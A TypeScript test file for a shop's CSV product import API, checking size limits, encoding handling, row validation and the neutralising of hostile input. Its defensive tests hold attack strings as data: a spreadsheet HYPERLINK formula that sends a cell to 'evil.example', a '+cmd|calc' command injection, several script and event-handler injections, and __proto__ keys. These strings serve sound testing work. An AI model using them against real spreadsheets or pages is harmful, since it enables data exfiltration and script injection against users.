import type { ImportPreview, Part } from '@switchyard/shared/parts';
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { signInAdmin, useShop, type Api } from './support/shop.ts';

const shop = useShop();
let admin: Api;
beforeAll(async () => {
  admin = shop().as(await signInAdmin(shop()));
});
beforeEach(async () => {
  for (const name of ['parts', 'families']) await shop().db.collection(name).deleteMany({});
});

const form = (path: string, file: string | Buffer, fields: Record<string, string> = {}) =>
  admin.post(path).field(fields).attach('file', Buffer.from(file), 'products.csv');
async function preview(file: string | Buffer): Promise<ImportPreview> {
  const answer = await form('/parts/import/preview', file);
  expect(answer.status, answer.text).toBe(200);
  return answer.body;
}
async function run(file: string): Promise<void> {
  const { fingerprint } = await preview(file);
  const answer = await form('/parts/import', file, { fingerprint });
  expect([answer.status, answer.body.missed], answer.text).toEqual([200, []]);
}
async function messageOf(file: string | Buffer): Promise<string> {
  const { status, body } = await form('/parts/import/preview', file);
  expect([status, body.code]).toEqual([400, 'invalid_input']);
  return body.issues[0].message;
}
const everyPart = async (): Promise<Part[]> => (await shop().api.get('/part?limit=100')).body;
const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
const heading = 'name,description,price,availableQuantity,minimumOrder,img,sku';
const row = (name: string, sku: string, { description = 'Smooth', img = '/x', price = '2.5' } = {}) =>
  [name, description, price, '7', '1', img, sku].map((text) => cell(text)).join(',');
const sheet = (...rows: string[]) => [heading, ...rows].join('\n');
const shopify = (...rows: Record<string, string>[]) => {
  const names = [
    'Handle',
    'Title',
    'Body (HTML)',
    'Option1 Name',
    'Option1 Value',
    'Variant Price',
    'Image Src',
  ];
  const lines = rows.map((cells) => names.map((name) => cell(cells[name] ?? '')).join(','));
  return [names.join(','), ...lines].join('\n');
};

describe('a file is refused with a sentence', () => {
  it.each<[string, () => string | Buffer, RegExp]>([
    [
      'of two million cells',
      () =>
        [`name${',a'.repeat(99)}`, ...Array.from({ length: 20_000 }, () => `x${',1'.repeat(99)}`)].join('\n'),
      /^The file has 2,000,000 cells or more\. Leave out columns/,
    ],
    [
      'of more than 20,000 rows',
      () => `name\n${'x\n'.repeat(20_001)}`,
      /^The file has more than 20,000 rows\. Split it/,
    ],
    [
      'with a quote that is never closed',
      () => sheet('"Fen,x,1,1,1,/x,A'),
      /^Row 2 cannot be read: a quote is opened/,
    ],
    [
      'with a quote that swallows the rest',
      () => sheet(`"Fen${',x'.repeat(250_000)}`),
      /^Row 2 cannot be read: it is longer than 400,000 characters/,
    ],
    ['that is a picture', () => Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a]), /not a text in UTF-8/],
    [
      'with half of a character',
      () => Buffer.from([...Buffer.from('name\nFen '), 0xed, 0xa0, 0x80]),
      /not a text/,
    ],
    ['of zeros', () => Buffer.alloc(1000), /./],
  ])('%s', async (_, file, message) => {
    expect(await messageOf(file())).toMatch(message);
  });
});

describe('a row is marked', () => {
  it.each<[string, string, string]>([
    ['a name of 300 letters', row('x'.repeat(300), 'A'), 'Name must be at most 120 characters'],
    ['a NUL byte', row('Fen\0', 'A'), 'Name must be plain text without control characters'],
    ['a picture that is a script', row('Fen', 'A', { img: 'javascript:alert(1)' }), 'Image must be a URL'],
    ['a picture that is data', row('Fen', 'A', { img: 'data:image/svg+xml,<svg/>' }), 'Image must be a URL'],
    ['a picture at a user’s', row('Fen', 'A', { img: 'https://a\\@b/' }), 'Image must be a URL'],
    ['a price without end', row('Fen', 'A', { price: '1e309' }), 'Price must be a number such as 9.90'],
    ['a price below nothing', row('Fen', 'A', { price: '-1' }), 'Price must be more than 0'],
    ['a SKU that is there twice', row('Fen', 'b'), 'Row 2 has the same SKU'],
  ])('with %s, and the others are shown', async (_, wrong, message) => {
    const csv = sheet(row('Moor', 'B'), wrong);
    const { rows, fingerprint } = await preview(csv);
    expect(rows.map(({ faults }) => faults[0]?.message)).toEqual([undefined, message]);
    const { status, body } = await form('/parts/import', csv, { fingerprint });
    expect([status, body.code, await everyPart()]).toEqual([400, 'invalid_input', []]);
  });

  it('whose choice has 300 letters, or whose family has too many', async () => {
    const variants = Array.from({ length: 101 }, (_, index) => ({
      Handle: 'fen',
      Title: 'Fen',
      'Option1 Name': 'Size',
      'Option1 Value': index === 0 ? 'x'.repeat(300) : String(index),
      'Variant Price': '1',
      'Image Src': '/x',
    }));
    const { rows } = await preview(shopify(...variants));
    expect([rows[0], rows[1], rows[100]].map((one) => one?.faults[0]?.message)).toEqual([
      'Value must be at most 40 characters',
      undefined,
      'A family has at most 100 parts',
    ]);
  });
});

describe('what looks like code stays text', () => {
  it('a formula: the export neutralises it, and the file comes back as it was', async () => {
    const names = ['=HYPERLINK("https://evil.example?"&A1,"Sale")', '+1+cmd|calc', '-2+3', '@SUM(A1)'];
    await run(sheet(...names.map((name, index) => row(name, `S-${index}`, { description: `=1+${index}` }))));
    expect((await everyPart()).map(({ name }) => name)).toEqual(names);
    const exported = (await admin.get('/parts/csv')).text;
    // No cell begins as a formula, in quotes or not.
    expect(exported).not.toMatch(/(?:^|,|\n)"?[=+@]/);
    expect(exported).toContain(`"'=HYPERLINK(""https`);
    expect((await preview(exported)).rows.map(({ state }) => state)).toEqual(names.map(() => 'unchanged'));
  });

  it('HTML: scripts, handlers and styles leave no trace in the description', async () => {
    const html =
      '<p onclick="alert(1)">Quiet<script>alert(2)</script></p><img src=x onerror=alert(3)>' +
      '<svg onload="alert(4)"><text>five</text></svg><iframe srcdoc="<p>six</p>"></iframe><style>p{}</style>' +
      '<a href="javascript:alert(7)">and smooth</a>&lt;b&gt;';
    await run(
      shopify({
        Handle: 'fen',
        Title: 'Fen <b>',
        'Body (HTML)': html,
        'Variant Price': '1',
        'Image Src': '/x',
      }),
    );
    const [part] = await everyPart();
    expect([part?.name, part?.description]).toEqual(['Fen <b>', 'Quiet\n\nand smooth<b>']);
  });

  it('a heading that names what every object has', async () => {
    const csv = `name,__proto__,constructor,toString\nFen,a,b,c`;
    const { notUnderstood, rows } = await preview(csv);
    expect([notUnderstood, rows[0]?.name]).toEqual([['__proto__', 'constructor', 'toString'], 'Fen']);
  });

  it('JSON that is nested without end, or names a prototype, is a fault of its row', async () => {
    const facts = ['['.repeat(50_000), '{"__proto__":{"kind":"switch"}}', '{"kind":"constructor"}'];
    const csv = [
      `${heading},facts`,
      ...facts.map((json, index) => `${row('Fen', `S-${index}`)},${cell(json)}`),
    ];
    const { rows } = await preview(csv.join('\n'));
    expect(rows.map(({ state, faults }) => [state, faults[0]?.column])).toEqual(
      facts.map(() => ['refused', 'facts']),
    );
  });
});

it('a file in UTF-16 is read in both byte orders, with a byte order mark or without', async () => {
  const text = sheet(row('Fen “é” 键', 'A'));
  const little = Buffer.from(text, 'utf16le');
  const marked = Buffer.concat([Buffer.from([0xff, 0xfe]), little]);
  for (const file of [little, marked, Buffer.from(little).swap16(), Buffer.from(marked).swap16()])
    expect((await preview(file)).rows[0]?.name).toBe('Fen “é” 键');
});
